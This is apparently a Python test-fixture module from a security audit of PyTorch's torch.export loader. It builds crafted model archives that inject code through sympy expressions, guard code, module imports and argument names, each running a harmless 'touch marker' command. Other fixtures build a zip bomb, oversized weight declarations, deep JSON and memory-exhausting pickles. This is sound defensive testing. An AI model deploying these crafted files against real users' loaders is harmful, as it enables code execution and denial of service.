"""Crafted model files from the audits of untrusted input (issue 19), each built from a genuine one.

Every function returns the bytes of one crafted file. Those taking a `marker` path would create
that file if any loader ran code from them; the others declare more than they hold. Tests load
them through every path that reads a model and check that nothing ran and nothing was allocated.
"""
from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
import zlib

import torch

PROGRAM, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
NOTES = b"hello world: notes for the meeting, not a checkpoint\n"  # a text file given as a state dict


def genuine_pt2(model: torch.nn.Module) -> bytes:
    """A torch.export archive of `model` on 1x8x8 images with a dynamic batch dimension, as a user would save it."""
    buffer = io.BytesIO()
    batch = torch.export.Dim("batch", min=1, max=1024)
    torch.export.save(torch.export.export(model.eval(), (torch.zeros(2, 1, 8, 8),), dynamic_shapes=({0: batch},)), buffer)
    return buffer.getvalue()


def rewrite(archive: bytes, changes: dict[str, bytes]) -> bytes:
    """A copy of a zip archive with the entries in `changes` (names below the root folder) replaced or added."""
    changes, buffer = dict(changes), io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(buffer, "w") as target:
        root = source.namelist()[0].split("/")[0]
        for info in source.infolist():
            name = info.filename.split("/", 1)[1]
            target.writestr(info.filename, changes.pop(name) if name in changes else source.read(info))
        for name, data in changes.items():
            target.writestr(f"{root}/{name}", data)
    return buffer.getvalue()


def record(archive: bytes, name: str = PROGRAM) -> dict:
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        return json.loads(source.read(next(n for n in source.namelist() if n.endswith(name))))


def with_record(archive: bytes, edit, name: str = PROGRAM) -> bytes:
    """The archive with one of its JSON records changed by `edit` (which changes the dict in place)."""
    changed = record(archive, name)
    edit(changed)
    return rewrite(archive, {name: json.dumps(changed).encode()})


def touch(marker) -> str:
    """Python that creates `marker`: what every crafted expression tries to run."""
    return f"__import__('os').system('touch {marker}')"


# Code from the file ------------------------------------------------------------------------------

def sympy_in_batch_size(archive: bytes, marker) -> bytes:
    """The audit's reproduction: torch hands the batch size's expression to sympy.sympify, an eval."""
    def edit(program):
        size = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]
        size["expr_str"] = (f"Symbol('s77', positive=True, integer=True) + "
                            f"0*sympify.__globals__['__builtins__']['__import__']('os').system('touch {marker}')")
    return with_record(archive, edit)


def sympy_in_range_constraint(archive: bytes, marker) -> bytes:
    def edit(program):
        program["range_constraints"][f"s77 + 0*{touch(marker)}"] = {"min_val": 1, "max_val": 4}
    return with_record(archive, edit)


def sympy_in_sym_int(archive: bytes, marker) -> bytes:
    def edit(program):
        program["graph_module"]["graph"]["sym_int_values"]["evil"] = {"as_expr": {"expr_str": touch(marker), "hint": None}}
    return with_record(archive, edit)


def guard_code(archive: bytes, marker) -> bytes:
    """torch runs the program's guards with exec when ExportedProgram.module() builds the module."""
    def edit(program):
        program["guards_code"] = [f"{touch(marker)} is not None"]
    return with_record(archive, edit)


def module_named_by_input_spec(archive: bytes, module: str) -> bytes:
    """torch's pytree reader imports the module an enum in a spec's context names (importing runs it)."""
    def edit(program):
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        spec[1]["context"] = json.dumps({"__enum__": True, "fqn": f"{module}:Anything", "name": "x"})
        signature["in_spec"] = json.dumps(spec)
    return with_record(archive, edit)


def quote_in_input_name(archive: bytes, marker) -> bytes:
    """A forward argument name: torch writes argument names into the Python source of the module it builds."""
    def edit(program):
        program["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [f"x={touch(marker)}"]
    return with_record(archive, edit)


# Declared sizes against the bytes present ----------------------------------------------------------

def first_weight(config: dict) -> dict:
    return next(iter(config["config"].values()))


def empty_weight_declaring(archive: bytes, floats: int = 750_000_000) -> bytes:
    """The audit's reproduction: an empty weight record declaring `floats` float32 values, which torch
    allocates as zeros (3 GB for 750M)."""
    def edit(config):
        meta = first_weight(config)["tensor_meta"]
        meta["sizes"], meta["strides"] = [{"as_int": floats}], [{"as_int": 1}]
    name = first_weight(record(archive, WEIGHTS))["path_name"]
    return rewrite(with_record(archive, edit, WEIGHTS), {f"data/weights/{name}": b""})


def weight_meta(archive: bytes, **fields) -> bytes:
    """The first weight's tensor metadata with `fields` replaced: negative sizes, huge strides, odd dtypes."""
    def edit(config):
        first_weight(config)["tensor_meta"].update(fields)
    return with_record(archive, edit, WEIGHTS)


def weight_bomb(archive: bytes, gigabytes: int = 1) -> bytes:
    """The first weight's record replaced by a deflated member of about 1 MB that inflates to `gigabytes` GB
    of zeros (torch's reader inflates a record whole). Built from one full-flushed block repeated, so
    making it takes milliseconds."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block, megabyte = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH), bytes(1 << 20)
    megabytes = gigabytes << 10
    stream, crc = block * megabytes + compressor.flush(), 0
    for _ in range(megabytes):
        crc = zlib.crc32(megabyte, crc)
    name = first_weight(record(archive, WEIGHTS))["path_name"]
    packed = rewrite(archive, {f"data/weights/{name}": stream})
    return _as_deflated(packed, f"data/weights/{name}", crc, megabytes << 20)


def _as_deflated(archive: bytes, name: str, crc: int, size: int) -> bytes:
    """Mark a stored member whose bytes are a raw deflate stream as deflated, inflating to `size` bytes:
    its method, CRC and sizes in the local header (offset 8) and in its central directory entry (offset 10)."""
    data = bytearray(archive)
    info = next(i for i in zipfile.ZipFile(io.BytesIO(archive)).infolist() if i.filename.endswith("/" + name))
    entry = data.index(b"PK\x01\x02")
    while data[entry + 46:entry + 46 + len(info.filename)] != info.filename.encode():
        entry = data.index(b"PK\x01\x02", entry + 4)
    for method_at in (info.header_offset + 8, entry + 10):
        struct.pack_into("<HHHIII", data, method_at, zipfile.ZIP_DEFLATED, *struct.unpack_from("<HH", data, method_at + 2),
                         crc, info.compress_size, size)
    return bytes(data)


def many_members(count: int = 2_000_000) -> bytes:
    """A zip of `count` central directory entries (49 bytes each) for one empty file: Python's zipfile builds
    an object of about 500 bytes for each entry it finds, so 100 MB of entries took 1 GB before any check."""
    name = b"a/x"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(entry) * count, len(local), 0)
    return local + entry * count + end


def duplicate_program(archive: bytes, marker) -> bytes:
    """A second models/model.json after the genuine one: zip readers differ on which of the two they read."""
    evil = sympy_in_batch_size(archive, marker)
    buffer = io.BytesIO(archive)
    with zipfile.ZipFile(io.BytesIO(evil)) as source, zipfile.ZipFile(buffer, "a") as target, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name it is asked to write
        name = next(n for n in source.namelist() if n.endswith(PROGRAM))
        target.writestr(name, source.read(name))
    return buffer.getvalue()


def legacy_member_beside(archive: bytes) -> bytes:
    """A top-level `version` member: torch.export.load falls back to its legacy reader, which unpickles
    the state dict with weights_only=False when it must, whenever the current reader fails."""
    buffer = io.BytesIO(archive)
    with zipfile.ZipFile(buffer, "a") as target:
        target.writestr("version", b"8.20")
    return buffer.getvalue()


def deep_program(archive: bytes, levels: int = 100_000) -> bytes:
    """A program record nested deeper than Python's JSON reader can follow (RecursionError)."""
    return rewrite(archive, {PROGRAM: b"[" * levels + b"]" * levels})


def sample_inputs_of_dicts(archive: bytes, count: int = 2000) -> bytes:
    """Sample inputs whose pickle is `count` one-byte '}' opcodes: torch's weights-only unpickler builds an empty dict
    for each (~70 bytes of memory a byte of file; 20 MB of them took 1.5 GB), and the result even loads."""
    samples = io.BytesIO()
    with zipfile.ZipFile(samples, "w") as inner:
        inner.writestr("model/data.pkl", b"\x80\x02" + b"}" * count + b".")
        inner.writestr("model/byteorder", "little")
        inner.writestr("model/version", "3\n")
    return rewrite(archive, {"data/sample_inputs/model.pt": samples.getvalue()})
